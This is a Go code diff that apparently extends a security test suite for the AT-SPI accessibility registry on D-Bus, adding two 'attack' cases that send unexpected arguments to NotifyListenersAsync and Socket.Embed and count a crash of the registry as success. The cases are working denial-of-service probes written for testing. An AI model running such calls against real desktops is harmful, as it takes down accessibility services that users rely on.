@@ -116,6 +116,19 @@ func answered(c *dbus.Conn, dest string, path dbus.ObjectPath, method string, ar
 // takes that gets no answer.
 const answerTime = 2 * time.Second
 
+// endsRegistry is the success of a call whose arguments the registry does not
+// expect: it ends, and no reader finds any program.
+func endsRegistry(c *dbus.Conn, v *victim, path dbus.ObjectPath, method string, args ...any) error {
+	c.Object(registryName, path).Go(method, dbus.FlagNoReplyExpected, nil, args...)
+	for late := time.Now().Add(answerTime); time.Now().Before(late); time.Sleep(10 * time.Millisecond) {
+		var owned bool
+		if err := v.conn.BusObject().Call(busName+".NameHasOwner", 0, registryName).Store(&owned); err == nil && !owned {
+			return nil
+		}
+	}
+	return errNothing
+}
+
 // hears is the success of an attack that listens.
 func hears(c *dbus.Conn, cause func(), what string) error {
 	signals := make(chan *dbus.Signal, 100)
@@ -241,6 +254,12 @@ var attacks = []attack{
 				return errNothing
 			}
 		}
+	}},
+	{"end the registry by the report of a key", func(c *dbus.Conn, v *victim) error {
+		return endsRegistry(c, v, deviceController, "org.a11y.atspi.DeviceEventController.NotifyListenersAsync", "x")
+	}},
+	{"end the registry by an object", func(c *dbus.Conn, v *victim) error {
+		return endsRegistry(c, v, victimPath, "org.a11y.atspi.Socket.Embed", c.Names()[0], dbus.ObjectPath("/a"))
 	}},
 	{"speak for the registry", func(c *dbus.Conn, v *victim) error {
 		match := "type='signal',interface='org.a11y.atspi.Registry',member='EventListenerRegistered',sender='" + c.Names()[0] + "'"
